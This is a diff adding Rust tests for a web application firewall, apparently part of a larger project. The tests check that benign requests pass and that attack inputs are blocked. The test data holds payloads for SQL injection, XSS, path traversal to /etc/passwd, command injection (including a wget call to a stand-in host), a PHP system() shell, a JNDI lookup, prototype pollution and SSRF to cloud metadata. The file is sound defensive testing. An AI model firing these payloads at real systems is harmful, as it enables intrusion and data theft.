@@ -1,0 +1,249 @@
+//! Family-level and configuration tests of the compiled WAF.
+
+use super::*;
+
+fn waf_with(json: &str) -> Waf {
+    let cfg: WafConfig = serde_json::from_str(json).unwrap_or_default();
+    match Waf::compile(&cfg, "policies.api.waf") {
+        Ok(w) => w,
+        Err(e) => panic!("compile failed: {e:?}"),
+    }
+}
+
+fn get(target: &str, headers: &[(&str, &str)]) -> Request {
+    let mut h: Vec<(String, Vec<u8>)> = vec![
+        (":method".into(), b"GET".to_vec()),
+        (":path".into(), target.as_bytes().to_vec()),
+        (":authority".into(), b"api.example.com".to_vec()),
+        ("accept".into(), b"application/json".to_vec()),
+        ("user-agent".into(), b"Mozilla/5.0 (X11; Linux x86_64)".to_vec()),
+    ];
+    h.extend(headers.iter().map(|(n, v)| (n.to_string(), v.as_bytes().to_vec())));
+    Request::from_headers(h)
+}
+
+fn post(target: &str, ct: &str, body: &str, waf: &Waf) -> Outcome {
+    let mut r = get(target, &[("content-type", ct)]);
+    r.method = "POST".into();
+    r.headers.push(("content-length".into(), body.len().to_string().into_bytes()));
+    let mut s = waf.inspect_head(&r);
+    waf.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
+    waf.outcome(&s)
+}
+
+fn outcome(waf: &Waf, target: &str) -> Outcome {
+    waf.outcome(&waf.inspect_head(&get(target, &[])))
+}
+
+fn blocked_category(o: &Outcome, c: Category) -> bool {
+    o.blocked && o.matches.iter().any(|m| m.category == c)
+}
+
+#[test]
+fn a_benign_search_request_passes() {
+    let w = waf_with("{}");
+    let o = outcome(&w, "/search?q=running+shoes&category=sports&page=2&sort=price_asc&in_stock=true");
+    assert!(!o.blocked, "{o:?}");
+}
+
+#[test]
+fn sql_injection_in_a_query_is_blocked() {
+    let w = waf_with("{}");
+    for t in [
+        "/p?id=1%27%20OR%20%271%27=%271",
+        "/p?id=1+UNION+SELECT+password+FROM+users",
+        "/p?id=1;waitfor%20delay%20'0:0:5'--",
+        "/p?q=1%27%20and%20sleep(5)%23",
+    ] {
+        assert!(blocked_category(&outcome(&w, t), Category::Sqli), "{t}");
+    }
+}
+
+#[test]
+fn xss_vectors_are_blocked() {
+    let w = waf_with("{}");
+    for t in [
+        "/p?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/p?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
+        "/p?u=javascript:alert(1)",
+        "/p?q=%26lt;svg/onload=alert(1)%26gt;",
+    ] {
+        assert!(blocked_category(&outcome(&w, t), Category::Xss), "{t}");
+    }
+}
+
+#[test]
+fn path_traversal_and_os_files_are_blocked() {
+    let w = waf_with("{}");
+    assert!(blocked_category(&outcome(&w, "/download?file=..%2F..%2F..%2Fetc%2Fpasswd"), Category::Lfi));
+    assert!(blocked_category(&outcome(&w, "/static/.git/config"), Category::Lfi));
+}
+
+#[test]
+fn remote_file_inclusion_with_an_ip_url_is_blocked() {
+    let w = waf_with("{}");
+    assert!(blocked_category(&outcome(&w, "/x.php?src=http://66.240.183.75/crash.php"), Category::Rfi));
+}
+
+#[test]
+fn command_injection_is_blocked() {
+    let w = waf_with("{}");
+    for t in [
+        "/ping?host=127.0.0.1;cat%20/etc/passwd",
+        "/ping?host=x%7Cwget%20http://e.vil/x",
+        "/x?c=$(id)",
+        "/x?c=%60whoami%60",
+    ] {
+        assert!(blocked_category(&outcome(&w, t), Category::Rce), "{t}");
+    }
+}
+
+#[test]
+fn php_injection_is_blocked() {
+    let w = waf_with("{}");
+    assert!(blocked_category(&outcome(&w, "/x?a=%3C?php%20system($_GET[c]);%20?%3E"), Category::Php));
+    assert!(blocked_category(&outcome(&w, "/x?f=php://filter/convert.base64-encode/resource=index"), Category::Php));
+}
+
+#[test]
+fn java_attacks_are_blocked() {
+    let w = waf_with("{}");
+    let o = w.outcome(&w.inspect_head(&get("/", &[("user-agent", "${jndi:ldap://x.y/a}")])));
+    assert!(blocked_category(&o, Category::Java), "{o:?}");
+    assert!(blocked_category(&outcome(&w, "/x?a=java.lang.Runtime"), Category::Java));
+}
+
+#[test]
+fn nodejs_attacks_are_blocked() {
+    let w = waf_with("{}");
+    let o = post("/api", "application/json", r#"{"__proto__":{"admin":true}}"#, &w);
+    assert!(blocked_category(&o, Category::Nodejs), "{o:?}");
+    assert!(blocked_category(&outcome(&w, "/x?a=require('child_process').exec('id')"), Category::Nodejs));
+}
+
+#[test]
+fn ssrf_to_cloud_metadata_is_blocked() {
+    let w = waf_with("{}");
+    assert!(blocked_category(&outcome(&w, "/fetch?url=http://169.254.169.254/latest/meta-data/"), Category::Ssrf));
+}
+
+#[test]
+fn scanner_user_agents_are_blocked() {
+    let w = waf_with("{}");
+    let o = w.outcome(&w.inspect_head(&get("/", &[("user-agent", "sqlmap/1.7")])));
+    assert!(blocked_category(&o, Category::Scanner), "{o:?}");
+}
+
+#[test]
+fn session_ids_in_arguments_without_a_same_site_referer_are_blocked() {
+    let w = waf_with("{}");
+    let o = w.outcome(&w.inspect_head(&get("/login?jsessionid=74B0CB41", &[("referer", "https://attacker.example/")])));
+    assert!(blocked_category(&o, Category::SessionFixation));
+    let o =
+        w.outcome(&w.inspect_head(&get("/login?jsessionid=74B0CB41", &[("referer", "https://api.example.com/home")])));
+    assert!(!o.blocked);
+}
+
+#[test]
+fn smuggling_headers_are_protocol_abuse() {
+    let w = waf_with("{}");
+    let o = w.outcome(&w.inspect_head(&get("/", &[("content-length", "4"), ("transfer-encoding", "chunked")])));
+    assert!(blocked_category(&o, Category::Protocol));
+}
+
+#[test]
+fn sql_injection_in_a_nested_json_field_is_blocked_and_named() {
+    let w = waf_with("{}");
+    let o = post("/api", "application/json", r#"{"user":{"name":"x' OR '1'='1"}}"#, &w);
+    assert!(o.blocked);
+    assert!(o.matches.iter().any(|m| m.target == "json:$.user.name"), "{o:?}");
+}
+
+#[test]
+fn excluding_a_json_field_silences_it() {
+    let w = waf_with(r#"{"exclusions":[{"target":"json:$.comment","tags":["sqli"]}]}"#);
+    let o = post("/api", "application/json", r#"{"comment":"x' OR '1'='1"}"#, &w);
+    assert!(!o.matches.iter().any(|m| m.category == Category::Sqli), "{o:?}");
+}
+
+#[test]
+fn detect_only_mode_scores_without_blocking() {
+    let w = waf_with(r#"{"mode":"detect_only"}"#);
+    let o = outcome(&w, "/p?id=1+UNION+SELECT+1");
+    assert!(o.over_threshold && !o.blocked);
+}
+
+#[test]
+fn disabled_rules_and_tags_do_not_run() {
+    let w = waf_with(r#"{"disabled_tags":["xss"]}"#);
+    assert!(!outcome(&w, "/p?q=%3Cscript%3E").matches.iter().any(|m| m.category == Category::Xss));
+}
+
+#[test]
+fn custom_rules_match_with_their_transformations() {
+    let w = waf_with(
+        r#"{"custom_rules":[{"id":100001,"targets":["header:x-api-version"],"operator":"equals","pattern":"v0","transformations":["lowercase"]}]}"#,
+    );
+    let o = w.outcome(&w.inspect_head(&get("/", &[("x-api-version", "V0")])));
+    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 100001), "{o:?}");
+}
+
+#[test]
+fn configuration_mistakes_are_reported_with_paths() {
+    let cfg: WafConfig = serde_json::from_str(
+        r#"{"paranoia_level":7,"disabled_rules":[9],"custom_rules":[{"id":5,"targets":["nowhere"],"operator":"regex","pattern":"(a","transformations":["rot13"]}]}"#,
+    )
+    .unwrap_or_default();
+    let errors = Waf::compile(&cfg, "policies.api.waf").err().unwrap_or_default();
+    let paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
+    for p in [
+        "policies.api.waf.paranoia_level",
+        "policies.api.waf.disabled_rules[0]",
+        "policies.api.waf.custom_rules[0].id",
+        "policies.api.waf.custom_rules[0].targets[0]",
+        "policies.api.waf.custom_rules[0].transformations[0]",
+        "policies.api.waf.custom_rules[0].pattern",
+    ] {
+        assert!(paths.contains(&p), "{p} missing from {paths:?}");
+    }
+}
+
+#[test]
+fn the_budget_stops_inspection_and_denies_by_default() {
+    let w = waf_with(r#"{"budget":{"max_values":3}}"#);
+    let o = outcome(&w, "/p?a=1&b=2&c=3&d=4");
+    assert!(o.incomplete && o.blocked);
+    let w = waf_with(r#"{"budget":{"max_values":3,"over_budget":"inspect_prefix"}}"#);
+    let o = outcome(&w, "/p?a=1&b=2&c=3&d=4");
+    assert!(o.incomplete && !o.blocked);
+}
+
+#[test]
+fn inspection_is_total_on_random_requests() {
+    let w = waf_with(r#"{"paranoia_level":4}"#);
+    let mut seed = 11u64;
+    let alphabet: &[u8] = b"%&=?/;'\"<>()[]{}$`|\\.-+*#:@!,0aAzZ \t\r\n\0\xff\xef\xbc";
+    for i in 0..3000 {
+        let mut v = Vec::new();
+        for _ in 0..((i % 90) + 1) {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            v.push(if i % 3 == 0 { seed as u8 } else { alphabet[(seed as usize) % alphabet.len()] });
+        }
+        let mut r = get("/", &[("x-v", "1")]);
+        r.target = [b"/a?".as_slice(), &v].concat();
+        r.headers.push(("cookie".into(), v.clone()));
+        let mut s = w.inspect_head(&r);
+        for ct in [
+            "application/json",
+            "multipart/form-data; boundary=a",
+            "text/xml",
+            "application/x-www-form-urlencoded",
+            "text/plain",
+        ] {
+            w.inspect_body(&mut s, ct.as_bytes(), &v);
+        }
+        let _ = w.outcome(&s);
+    }
+}
